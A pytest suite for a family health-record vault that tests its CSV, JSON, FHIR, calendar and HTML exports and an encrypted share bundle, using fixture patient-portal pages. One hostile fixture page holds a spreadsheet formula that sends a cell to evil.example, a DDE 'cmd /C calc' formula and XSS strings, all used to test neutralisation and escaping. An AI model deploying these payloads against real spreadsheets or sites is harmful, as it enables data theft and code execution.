"""Exports (issue 7) on a real encrypted vault filled through bridge.ingest.ingest from fixture pages of
two health systems' portals (Epic MyChart at Lakeside and Harborview, Oracle Health at Prairie Valley)
and two members, plus a hostile page: every format, its filters, and the share bundle's round trip."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from conftest import FIXTURES, REPO
from pydantic import ValidationError

from bridge import share_format
from bridge.exports import (
    PLAINTEXT_WARNING,
    ExportOptions,
    bundle,
    components_path,
    csv_format,
    export_to,
    fhir_format,
    ics_format,
    json_format,
    packet,
    resolve_members,
)
from bridge.exports.fhir_validate import ShapeValidator
from bridge.family import Entry, Family, TimelineQuery
from bridge.ingest import ingest
from bridge.records import ParseResult
from bridge.share_import import import_bundle
from bridge.vault import Vault

PASSPHRASE = "export test passphrase"
SHARE = "share bundle passphrase"
HOA, LAN = "Đỗ Thị Hoa", "Nguyễn Thị Lan"
PAGES = [
    "epic_mychart/test_result_a1c_px.html",
    "epic_mychart/test_result_list_px.html",
    "epic_mychart/message_thread_metformin_px.html",
    "epic_mychart/appointment_list_px_var_past_only.html",
    "epic_mychart/health_summary_px.html",
    "epic_mychart/note_progress_px.html",
    "epic_mychart/visit_past_details_px.html",
    "epic_mychart/immunization_list_classic_var_prd.html",
    "epic_mychart/test_result_list_trend_classic_var_columns.html",
    "oracle_health/allergy_list.html",
    "oracle_health/appointment_list_upcoming.html",
    "oracle_health/test_result_list_labs.html",
    "oracle_health/test_result_list_history_potassium.html",
    "oracle_health/medication_list_current.html",
    "oracle_health/message_thread_refill.html",
    "oracle_health/immunization_list.html",
    "oracle_health/problem_list_var_health_issues.html",
]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_PAGE = (
    f"<html><head><title>{HOSTILE_TITLE.replace('&', '&amp;')}</title></head><body><main>"
    "<h1>=cmd|' /C calc'!A0</h1><p>&lt;script&gt;alert('pwned')&lt;/script&gt; "
    "<img src=x onerror=alert(1)> +SUM(1,2) -2+3 @A1</p></main></body></html>"
)
#: "now" for upcoming appointments: the fixture pages' appointments are in 2026.
NOW = datetime(2025, 6, 1, 8, 0)


def fixture_capture(rel: str) -> dict[str, Any]:
    spec = json.loads((FIXTURES / rel.replace(".html", ".expected.json")).read_text(encoding="utf-8"))
    html = (FIXTURES / rel).read_text(encoding="utf-8")
    return {
        "url": spec["url"],
        "title": rel,
        "captured_at": spec.get("captured_at") or "2025-09-01T00:00:00Z",
        "frames": [{"url": spec["url"], "html": html}],
        "extension_version": "test",
    }


def fill(vault: Vault, family: Family) -> tuple[str, str]:
    hoa = family.create_member(HOA, "1949-11-03", "mother")
    lan = family.create_member(LAN, "1949-08-21", "aunt")
    for rel in PAGES:
        receipt = ingest(vault, fixture_capture(rel), family)
        if receipt.needs_assignment:  # a page showing the patient's name without a birth date
            name = (receipt.patient or {}).get("name") or ""
            family.assign(receipt.capture_id, hoa.id if "Hoa" in name else lan.id)
    hostile = {
        "url": "https://portal.unknown.example/letters/1",
        "title": "letter",
        "frames": [{"url": "https://portal.unknown.example/letters/1", "html": HOSTILE_PAGE}],
        "captured_at": "2025-10-01T09:00:00Z",
        "extension_version": "test",
    }
    receipt = ingest(vault, hostile, family)
    family.assign(receipt.capture_id, lan.id, only_this=True)
    return hoa.id, lan.id


class Filled:
    def __init__(self, path: Path) -> None:
        self.path = path
        self.vault = Vault.create(path, PASSPHRASE)
        self.family = Family(self.vault)
        self.hoa, self.lan = fill(self.vault, self.family)

    def all(self, q: TimelineQuery | None = None) -> list[Entry]:
        return list(self.family.iter_entries(q or TimelineQuery(limit=None, newest_first=False)))


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Filled]:
    f = Filled(tmp_path_factory.mktemp("export") / "vault")
    yield f
    f.vault.close()


def run_to_bytes(write: Any, f: Filled, opts: ExportOptions, **kw: Any) -> bytes:
    buf = io.BytesIO()
    write(f.family, opts, buf, **kw)
    return buf.getvalue()


def test_the_vault_has_two_members_and_several_systems(filled: Filled) -> None:
    entries = filled.all()
    assert {e.member_id for e in entries} == {filled.hoa, filled.lan}
    orgs = {o for e in entries for o in e.organizations}
    assert {"Lakeside Health", "Harborview Health & Wellness", "Prairie Valley Health"} <= orgs


# ---------------------------------------------------------------------------------------------- json


def test_json_round_trips_into_the_contract_models(filled: Filled) -> None:
    data = run_to_bytes(json_format.write, filled, ExportOptions())
    parsed = json_format.load(data)
    entries = filled.all()
    assert [e.id for e in parsed.entries] == [e.id for e in entries]
    assert {m.name for m in parsed.members} == {HOA, LAN}
    names = {filled.hoa: HOA, filled.lan: LAN}
    for got, want in zip(parsed.entries, entries, strict=True):
        assert got.record.kind == want.kind
        assert got.record.model_dump(mode="json") == want.record  # the contract's shape, nothing lost
        assert got.member_name == names[want.member_id]
        assert [s.capture_id for s in got.sources] == [s.capture_id for s in want.sources]
        for s in got.sources:
            assert filled.vault.has_capture(s.capture_id) and s.parser and s.captured_at
    # the records fit the parse result model too (what `kinchart parse` prints)
    ParseResult.model_validate(
        {
            "vendor": "generic",
            "page_kind": "unknown",
            "records": [e.record.model_dump(mode="json") for e in parsed.entries],
        }
    )
    merged = [e for e in parsed.entries if len(e.sources) > 1]
    assert merged, "the fixture vault has entries shown by two captures (dedupe sources)"


def test_json_load_rejects_a_record_outside_the_contract(filled: Filled) -> None:
    doc = json.loads(run_to_bytes(json_format.write, filled, ExportOptions(kinds=["allergy"])))
    doc["entries"][0]["record"]["kind"] = "horoscope"
    with pytest.raises(ValidationError):
        json_format.load(json.dumps(doc))


# ---------------------------------------------------------------------------------------------- filters


def test_filters_by_member_dates_and_kind(filled: Filled) -> None:
    opts = ExportOptions(
        member_ids=[filled.hoa], kinds=["test_result", "message"], since="2026-01-01", until="2026-04-14"
    )
    parsed = json_format.load(run_to_bytes(json_format.write, filled, opts))
    assert parsed.entries
    assert {e.member_id for e in parsed.entries} == {filled.hoa}
    assert {e.kind for e in parsed.entries} <= {"test_result", "message"}
    assert all("2026-01-01" <= (e.occurred_at or "")[:10] <= "2026-04-14" for e in parsed.entries)
    want = filled.all(
        TimelineQuery(
            member_ids=[filled.hoa],
            kinds=["test_result", "message"],
            since="2026-01-01",
            until="2026-04-14",
            limit=None,
            newest_first=False,
        )
    )
    assert [e.id for e in parsed.entries] == [e.id for e in want]
    assert [m.name for m in parsed.members] == [HOA]
    # the same filters reach every format
    rows = list(csv.DictReader(io.StringIO(run_to_bytes(csv_format.write, filled, opts).decode("utf-8-sig"))))
    assert len(rows) == len(want) and {r["member"] for r in rows} == {HOA}
    bundle_fhir = json.loads(run_to_bytes(fhir_format.write, filled, opts))
    types = {e["resource"]["resourceType"] for e in bundle_fhir["entry"]}
    assert types <= {
        "Patient",
        "Organization",
        "Provenance",
        "Observation",
        "DiagnosticReport",
        "Communication",
    }
    html = run_to_bytes(packet.write, filled, opts).decode()
    assert HOA in html and LAN not in html


def test_members_are_chosen_by_name(filled: Filled) -> None:
    assert resolve_members(filled.family, ["đỗ thị hoa"]) == [filled.hoa]
    assert resolve_members(filled.family, ["Nguyễn"]) == [filled.lan]
    with pytest.raises(ValueError, match="not a family member"):
        resolve_members(filled.family, ["Nobody"])


# ---------------------------------------------------------------------------------------------- csv


def test_csv_opens_cleanly_and_neutralises_formulas(filled: Filled) -> None:
    raw = run_to_bytes(csv_format.write, filled, ExportOptions())
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: accented names survive a spreadsheet
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header == csv_format.ENTRY_COLUMNS
    assert len(body) == len(filled.all())
    for row in body:
        for cell in row:
            # a plain negative number is left as a number (test_export_safety.py says why)
            assert not cell.startswith(("=", "+", "-", "@", "|", "\t", "\r", "\n")) or re.fullmatch(
                r"-[0-9]+(\.[0-9]+)?", cell
            ), cell
        d = dict(zip(header, row, strict=True))
        assert d["date"] == "" or re.fullmatch(r"\d{4}-\d{2}-\d{2}", d["date"])
        assert d["time"] == "" or re.fullmatch(r"\d{2}:\d{2}:\d{2}", d["time"])
    hostile = [dict(zip(header, r, strict=True)) for r in body if "/C calc" in ",".join(r)]
    assert (
        hostile and hostile[0]["title"] == "'=cmd|' /C calc'!A0" and hostile[0]["detail"].startswith("'=cmd")
    )
    assert csv_format.neutralise("-2+3") == "'-2+3" and csv_format.neutralise("@A1") == "'@A1"
    assert csv_format.neutralise(-2.5) == -2.5  # a number stays a number
    assert csv_format.neutralise("Hemoglobin") == "Hemoglobin"


def test_csv_components_table(filled: Filled) -> None:
    raw = run_to_bytes(csv_format.write, filled, ExportOptions(member_ids=[filled.hoa]), table="components")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    want = sum(
        len(e.record.get("components") or [])
        for e in filled.all(TimelineQuery(member_ids=[filled.hoa], kinds=["test_result"], limit=None))
    )
    assert len(rows) == want > 0
    a1c = [r for r in rows if r["component"].lower().startswith("hemoglobin a1c")]
    assert a1c and any(r["value"] == "7.9" and r["flag"] == "high" and r["unit"] == "%" for r in a1c)
    assert all(r["value_num"] == "" or float(r["value_num"]) == float(r["value_num"]) for r in rows)


# ---------------------------------------------------------------------------------------------- fhir


def _references(node: Any) -> Iterator[str]:
    if isinstance(node, dict):
        for k, v in node.items():
            if k == "reference" and isinstance(v, str):
                yield v
            else:
                yield from _references(v)
    elif isinstance(node, list):
        for v in node:
            yield from _references(v)


def test_fhir_bundle_validates_and_every_reference_resolves(filled: Filled) -> None:
    from fhir.resources.R4B.bundle import Bundle

    raw = run_to_bytes(fhir_format.write, filled, ExportOptions())
    Bundle.model_validate_json(raw)  # the whole bundle, in full, by the models
    doc = json.loads(raw)
    assert doc["resourceType"] == "Bundle" and doc["type"] == "collection"
    full_urls = [e["fullUrl"] for e in doc["entry"]]
    assert len(full_urls) == len(set(full_urls))
    for e in doc["entry"]:
        assert e["fullUrl"] == f"urn:uuid:{e['resource']['id']}"
    refs = set(_references(doc["entry"]))
    assert refs and refs <= set(full_urls), refs - set(full_urls)
    by_type: dict[str, list[dict[str, Any]]] = {}
    for e in doc["entry"]:
        by_type.setdefault(e["resource"]["resourceType"], []).append(e["resource"])
    assert {
        "Patient",
        "Organization",
        "Observation",
        "DiagnosticReport",
        "DocumentReference",
        "Communication",
        "Encounter",
        "Appointment",
        "MedicationStatement",
        "Immunization",
        "AllergyIntolerance",
        "Condition",
        "Provenance",
    } <= set(by_type)
    assert sorted(p["name"][0]["text"] for p in by_type["Patient"]) == sorted([HOA, LAN])
    # LOINC only where certain: HbA1c in % is 4548-4; a name with no certain code gets none
    codes = {c["code"] for o in by_type["Observation"] for c in o["code"].get("coding", [])}
    assert "4548-4" in codes
    a1c = [o for o in by_type["Observation"] if o["code"]["text"].lower().startswith("hemoglobin a1c")]
    assert a1c and all(o["code"]["coding"][0]["code"] == "4548-4" for o in a1c if o["code"].get("coding"))
    assert any(o["interpretation"][0]["coding"][0]["code"] == "H" for o in a1c if o.get("interpretation"))
    # provenance: every clinical resource is the target of a Provenance whose agent is its source system
    orgs = {f"urn:uuid:{o['id']}": o["name"] for o in by_type["Organization"]}
    targeted = {t["reference"] for p in by_type["Provenance"] for t in p["target"]}
    for rtype, items in by_type.items():
        if rtype not in {"Patient", "Organization", "Provenance"}:
            assert all(f"urn:uuid:{r['id']}" in targeted for r in items), rtype
    assert {
        orgs[p["agent"][0]["who"]["reference"]]
        for p in by_type["Provenance"]
        if "reference" in p["agent"][0]["who"]
    } >= {"Lakeside Health", "Prairie Valley Health"}
    assert all(
        p["entity"][0]["what"]["identifier"]["system"] == "urn:kinchart:capture"
        for p in by_type["Provenance"]
    )


def test_fhir_fast_validation_agrees_with_full_validation(filled: Filled) -> None:
    fast = json.loads(run_to_bytes(fhir_format.write, filled, ExportOptions()))
    strict = json.loads(run_to_bytes(fhir_format.write, filled, ExportOptions(), strict=True))
    assert [e["resource"] for e in fast["entry"]] == [e["resource"] for e in strict["entry"]]
    from fhir.resources.R4B.observation import Observation

    v = ShapeValidator()
    good = {
        "resourceType": "Observation",
        "id": "a",
        "status": "final",
        "code": {"text": "Potassium"},
        "effectiveDateTime": "2025-03-14T08:12:00-04:00",
        "valueQuantity": {"value": 4.1, "unit": "mmol/L"},
    }
    v.validate(Observation, good)
    v.validate(Observation, {**good, "id": "b", "effectiveDateTime": "2025-03-15"})
    for bad in (
        {**good, "effectiveDateTime": "2025-13-45T08:12:00-04:00"},  # same shape, bad value
        {**good, "effectiveDateTime": "2025-03-14T08:12:00"},  # a time without a zone
        {**good, "status": "fi  nal"},  # not a FHIR code
        {**good, "id": "not an id!"},  # not a FHIR id
        {**good, "valueQuantity": {"value": 4.1, "unit": ""}},  # empty value
        {k: v_ for k, v_ in good.items() if k != "status"},  # a required element missing
        {**good, "valueString": "4.1"},  # two choices of value[x]
        {**good, "valueQuantity": {"value": 4.1, "unit": "mmol/L", "nonsense": 1}},
    ):
        with pytest.raises((ValidationError, ValueError)):
            Observation.model_validate(bad)
        with pytest.raises((ValidationError, ValueError)):
            v.validate(Observation, bad)


# ---------------------------------------------------------------------------------------------- ics


def _events(raw: bytes) -> dict[str, Any]:
    from icalendar import Calendar

    cal = Calendar.from_ical(raw)
    return {str(ev["UID"]): ev for ev in cal.walk("VEVENT")}


def test_ics_parses_back_with_the_same_events_and_stable_uids(filled: Filled) -> None:
    opts = ExportOptions(now=NOW)
    first, second = (_events(run_to_bytes(ics_format.write, filled, opts)) for _ in range(2))
    appts = [
        e
        for e in filled.all(TimelineQuery(kinds=["appointment"], limit=None))
        if e.record.get("status") != "completed" and (e.occurred_at or "") >= NOW.isoformat()
    ]
    assert first and set(first) == set(second) == {f"{e.id}@kinchart" for e in appts}
    by_uid = {f"{e.id}@kinchart": e for e in appts}
    for uid, ev in first.items():
        e = by_uid[uid]
        start = ev.decoded("DTSTART")
        assert start.isoformat()[:16] == (e.occurred_at or "")[:16]
        who = HOA if e.member_id == filled.hoa else LAN
        assert str(ev["SUMMARY"]).startswith(who + ":")
        assert ev.decoded("DTEND") > start
    # past appointments only when asked; upcoming ones keep their UIDs
    with_past = _events(run_to_bytes(ics_format.write, filled, replace(opts, include_past=True)))
    assert set(first) < set(with_past)
    later = _events(run_to_bytes(ics_format.write, filled, ExportOptions(now=datetime(2030, 1, 1))))
    assert later == {}


# ---------------------------------------------------------------------------------------------- html


def test_html_packet_is_self_contained_and_escaped(filled: Filled) -> None:
    html = run_to_bytes(packet.write, filled, ExportOptions(now=NOW)).decode()
    low = html.lower()
    assert "<script" not in low
    assert "&lt;script&gt;alert(" in html  # the hostile text is there, inert
    assert "<img" not in low and "src=" not in low and 'href="http' not in low
    assert 'http-equiv="Content-Security-Policy"' in html and "default-src 'none'" in html
    for name in (HOA, LAN):
        assert name in html
    for heading in (
        "Allergies",
        "Problems",
        "Active medications",
        "Recent abnormal results",
        "Immunizations",
        "Recent visits",
        "Upcoming appointments",
        "Timeline",
    ):
        assert heading in html
    assert "<svg" in html  # a trend chart, inline
    assert "Lakeside Health" in html and "Prairie Valley Health" in html
    assert "Penicillin" in html  # an allergy from Prairie Valley


# ---------------------------------------------------------------------------------------------- bundle


def test_share_bundle_round_trips_into_a_second_vault_without_duplicates(
    filled: Filled, tmp_path: Path
) -> None:
    opts = ExportOptions(member_ids=[filled.hoa, filled.lan])
    sealed = io.BytesIO()
    n = bundle.write(filled.family, filled.vault, opts, sealed, SHARE)
    data = sealed.getvalue()
    assert n > 0 and data.startswith(share_format.MAGIC)
    assert HOA.encode() not in data and b"Hemoglobin" not in data  # sealed
    for wrong in ("the wrong passphrase", ""):
        with pytest.raises(bundle.BundleError, match="passphrase"):
            share_format.unseal(data, wrong)
    tampered = bytearray(data)
    tampered[-40] ^= 1
    with pytest.raises(bundle.BundleError):
        share_format.unseal(bytes(tampered), SHARE)
    other = Vault.create(tmp_path / "other", "another caregiver's passphrase")
    family = Family(other)
    first = import_bundle(other, family, data, SHARE)
    assert (
        first.captures_new == n and not first.failed and sorted(first.members_created) == sorted([HOA, LAN])
    )
    again = import_bundle(other, Family(other), data, SHARE)
    assert (
        again.captures_new == 0
        and again.captures_duplicate == n
        and sorted(again.members_matched) == sorted([HOA, LAN])
    )
    family = Family(other)
    assert sorted(m.name for m in family.list_members()) == sorted([HOA, LAN])
    assert not family.unassigned()
    names_here = {filled.hoa: HOA, filled.lan: LAN}
    names_there = {m.id: m.name for m in family.list_members()}

    def facts(entries: list[Entry], names: dict[str, str]) -> list[tuple[Any, ...]]:
        return sorted(
            (
                names[e.member_id],
                e.kind,
                e.occurred_at or "",
                json.dumps(e.record, sort_keys=True),
                # capture ids are keyed per vault (no one holding a page can look it up), so the
                # same page has another id there: provenance is where and when it was saved
                tuple((s.url, s.captured_at, s.organization) for s in e.sources),
            )
            for e in entries
        )

    mine, theirs = filled.all(), list(family.iter_entries(TimelineQuery(limit=None, newest_first=False)))
    assert len(theirs) == len(mine)  # none twice
    assert facts(theirs, names_there) == facts(mine, names_here)  # same facts, members, provenance
    other.close()


def test_bundle_of_one_member_files_under_an_existing_member(filled: Filled, tmp_path: Path) -> None:
    sealed = io.BytesIO()
    bundle.write(filled.family, filled.vault, ExportOptions(member_ids=[filled.lan]), sealed, SHARE)
    other = Vault.create(tmp_path / "other", "another caregiver's passphrase")
    family = Family(other)
    aunt = family.create_member("nguyen thi lan", "1949-08-21")  # typed differently: the same person
    report = import_bundle(other, family, sealed.getvalue(), SHARE)
    assert report.members_matched == [LAN] and not report.members_created
    assert {e.member_id for e in family.iter_entries(TimelineQuery(limit=None))} == {aunt.id}
    other.close()


def test_bundle_refuses_a_short_passphrase(filled: Filled) -> None:
    with pytest.raises(bundle.BundleError, match="at least"):
        bundle.write(filled.family, filled.vault, ExportOptions(), io.BytesIO(), "short")


# ---------------------------------------------------------------------------------------------- files, CLI


def test_export_to_writes_private_files_and_never_overwrites(filled: Filled, tmp_path: Path) -> None:
    out = tmp_path / "family.csv"
    written = export_to("csv", filled.family, filled.vault, ExportOptions(), out)
    assert [w.path for w in written] == [out, components_path(out)]
    for w in written:
        assert w.path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(FileExistsError):
        export_to("csv", filled.family, filled.vault, ExportOptions(), out)
    export_to("json", filled.family, filled.vault, ExportOptions(), out.with_suffix(".json"))
    assert json_format.load(out.with_suffix(".json").read_bytes()).entries


def test_cli_export_and_import_bundle(filled: Filled, tmp_path: Path) -> None:
    pw, share = tmp_path / "pw.txt", tmp_path / "share.txt"
    pw.write_text(PASSPHRASE + "\n")
    share.write_text(SHARE + "\n")
    env = {
        **os.environ,
        "KINCHART_PASSPHRASE_FILE": str(pw),
        "KINCHART_BUNDLE_PASSPHRASE_FILE": str(share),
        "KINCHART_KDF": "fast",
    }

    def kinchart(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        proc = subprocess.run(
            [sys.executable, "-m", "bridge", *args],
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
            cwd=REPO,
        )
        assert not check or proc.returncode == 0, proc.stderr + proc.stdout
        return proc

    out = tmp_path / "hoa.json"
    proc = kinchart(
        "export",
        "--vault",
        str(filled.path),
        "--format",
        "json",
        "--member",
        HOA,
        "--kind",
        "test_result",
        "--since",
        "2026-01-01",
        "-o",
        str(out),
    )
    assert "NOT encrypted" in " ".join(proc.stderr.split())
    parsed = json_format.load(out.read_bytes())
    assert parsed.entries and {e.member_id for e in parsed.entries} == {filled.hoa}
    assert {e.kind for e in parsed.entries} == {"test_result"}
    assert all((e.occurred_at or "") >= "2026-01-01" for e in parsed.entries)
    again = kinchart("export", "--vault", str(filled.path), "--format", "json", "-o", str(out), check=False)
    assert again.returncode != 0 and "already exists" in again.stderr
    bad = kinchart(
        "export",
        "--vault",
        str(filled.path),
        "--format",
        "json",
        "--member",
        "Nobody",
        "-o",
        str(tmp_path / "x.json"),
        check=False,
    )
    assert bad.returncode != 0 and "not a family member" in " ".join(bad.stderr.split())
    sealed = tmp_path / "family.kinchart-share"
    proc = kinchart("export", "--vault", str(filled.path), "--format", "bundle", "-o", str(sealed))
    assert "NOT encrypted" not in proc.stderr
    kinchart("init", "--vault", str(tmp_path / "v2"))
    first = kinchart("import-bundle", "--vault", str(tmp_path / "v2"), str(sealed))
    second = kinchart("import-bundle", "--vault", str(tmp_path / "v2"), str(sealed))
    assert "0 new capture(s)" not in first.stdout and "0 new capture(s)" in second.stdout
    assert (tmp_path / "v2" / "timeline.cache").exists()  # the next unlock reads the merged timeline
    assert PLAINTEXT_WARNING.split(":")[0] in PLAINTEXT_WARNING
